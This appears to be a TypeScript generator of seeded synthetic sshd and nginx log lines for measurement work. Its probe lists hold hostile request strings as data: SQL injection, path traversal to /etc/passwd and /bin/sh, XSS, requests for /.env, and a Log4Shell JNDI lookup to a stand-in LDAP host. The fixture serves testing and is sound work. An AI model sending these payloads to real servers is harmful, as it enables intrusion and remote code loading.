/** Log lines for the measurements: seeded, so that every run and every peer reads the same. */

/** A small generator of numbers (mulberry32), seeded. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (n: number): string => String(n).padStart(2, '0');

/** `Nov 22 02:27:01` in UTC. */
function syslogTime(ms: number): string {
  const d = new Date(ms);
  return `${months[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2)} ${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}`;
}

function clfTime(ms: number): string {
  const d = new Date(ms);
  return `${two(d.getUTCDate())}/${months[d.getUTCMonth()]}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
}

const pick = <T>(list: readonly T[], r: () => number): T => list[Math.floor(r() * list.length)]!;

/**
 * What an exposed sshd writes: thirty addresses at a time that guess some two hundred times each and leave, one guess
 * in ten from a slow pool of a thousand others, some log-ons and cron jobs between.
 */
export function sshdLines(count: number, endMs: number, seed = 7): string[] {
  const r = random(seed);
  const names = ['root', 'admin', 'test', 'ubuntu', 'oracle', 'git', 'postgres', 'deploy', 'hadoop', 'ftpuser', 'es', 'www'];
  const address = (): string => `${pick([192, 198, 203, 45, 61, 118, 185, 103], r)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`;
  const fast = Array.from({ length: 30 }, address);
  const slow = Array.from({ length: 1000 }, address);
  const guesser = (): string => {
    if (r() < 0.1) return pick(slow, r);
    const seat = Math.floor(r() * fast.length);
    if (r() < 0.005) fast[seat] = address();
    return fast[seat]!;
  };
  const out: string[] = [];
  // 40 lines a second, as a busy attack brings.
  for (let i = 0; out.length < count; i++) {
    const head = `${syslogTime(endMs - ((count - out.length) / 40) * 1000)} web-1`;
    const pid = 1000 + (i % 60_000);
    const address = guesser();
    const port = 1024 + Math.floor(r() * 60_000);
    const name = pick(names, r);
    const what = r();
    if (what < 0.45) {
      out.push(`${head} sshd[${pid}]: Invalid user ${name}${Math.floor(r() * 90)} from ${address} port ${port}`);
      out.push(`${head} sshd[${pid}]: pam_unix(sshd:auth): check pass; user unknown`);
      out.push(`${head} sshd[${pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${address} `);
      out.push(`${head} sshd[${pid}]: Failed password for invalid user ${name}${Math.floor(r() * 90)} from ${address} port ${port} ssh2`);
      out.push(`${head} sshd[${pid}]: Connection closed by invalid user ${name} ${address} port ${port} [preauth]`);
    } else if (what < 0.9) {
      out.push(`${head} sshd[${pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${address}  user=root`);
      out.push(`${head} sshd[${pid}]: Failed password for root from ${address} port ${port} ssh2`);
      out.push(`${head} sshd[${pid}]: Received disconnect from ${address} port ${port}:11: Bye Bye [preauth]`);
      out.push(`${head} sshd[${pid}]: Disconnected from authenticating user root ${address} port ${port} [preauth]`);
    } else if (what < 0.93) {
      out.push(`${head} sshd[${pid}]: Accepted publickey for deploy from 10.0.0.${1 + (i % 9)} port ${port} ssh2: ED25519 SHA256:0ntfJ3kqYxV0eC0yqkQm6V0yGmDgqv2W3u3mV8gqk1o`);
      out.push(`${head} sshd[${pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)`);
    } else if (what < 0.97) {
      out.push(`${head} CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`);
      out.push(`${head} CRON[${pid}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`);
    } else {
      out.push(`${head} sshd[${pid}]: Connection from ${address} port ${port} on 10.0.0.5 port 22 rdomain ""`);
      out.push(`${head} sshd[${pid}]: kex_exchange_identification: Connection closed by remote host`);
    }
  }
  out.length = count;
  return out;
}

/**
 * What a shop behind nginx writes: 200 requests a second from some 400 visitors at a time, each of whom stays for
 * twenty requests or so under one user agent; one request in a hundred is a probe from one of 40 addresses.
 */
export function nginxLines(count: number, endMs: number, seed = 11): string[] {
  const r = random(seed);
  const agents = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
  ];
  const pages = ['/', '/index.php', '/product/%d', '/product/%d?color=red&size=%d', '/cart', '/api/v1/items?page=%d&sort=price', '/static/app.%d.js', '/static/style.css', '/images/p%d.webp', '/search?q=running+shoes+%d', '/account/login', '/favicon.ico', '/api/v1/stock/%d', '/blog/2026/11/how-to-choose-%d'];
  const attacks = ['/wp-login.php', '/.env', '/product/1%27%20UNION%20SELECT%201,2,3--%20', '/index.php?file=../../../../etc/passwd', '/?x=${jndi:ldap://198.51.100.9/a}', '/cgi-bin/.%2e/.%2e/bin/sh', '/.git/config', '/phpmyadmin/index.php', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'];
  const address = (): string => `${1 + Math.floor(r() * 222)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${1 + Math.floor(r() * 254)}`;
  const visitor = (): { address: string; agent: string } => ({ address: address(), agent: pick(agents, r) });
  const visitors = Array.from({ length: 400 }, visitor);
  const probers = Array.from({ length: 40 }, visitor);
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const time = clfTime(endMs - ((count - i) / 200) * 1000);
    const hostile = r() < 0.01;
    const seat = Math.floor(r() * visitors.length);
    if (r() < 0.05) visitors[seat] = visitor();
    const who = hostile ? pick(probers, r) : visitors[seat]!;
    const target = (hostile ? pick(attacks, r) : pick(pages, r)).replace(/%d/g, () => String(Math.floor(r() * 9000)));
    const status = hostile ? 404 : r() < 0.96 ? 200 : pick([301, 304, 404, 500], r);
    out.push(`${who.address} - - [${time}] "${r() < 0.93 ? 'GET' : 'POST'} ${target} HTTP/${r() < 0.5 ? '1.1' : '2.0'}" ${status} ${Math.floor(r() * 60_000)} "${r() < 0.6 ? 'https://shop.example/' : '-'}" "${who.agent}"`);
  }
  return out;
}

/** Attacks on a web server, line by line from one address after the other; `from` is the first line's number, so that a flood goes on. */
export function attackLines(addresses: number, count: number, endMs: number, from = 0): string {
  const paths = ['/wp-login.php', '/.env', '/index.php?file=../../../../etc/passwd', '/product/1%27%20UNION%20SELECT%201,2,3--%20'];
  const time = clfTime(endMs);
  return Array.from({ length: count }, (_, n) => { const i = (from + n) % addresses; return `${20 + (i >> 16)}.${(i >> 8) & 255}.7.${i & 255} - - [${time}] "GET ${paths[(from + n) % 4]!} HTTP/1.1" 404 512 "-" "Mozilla/5.0"\n`; }).join('');
}
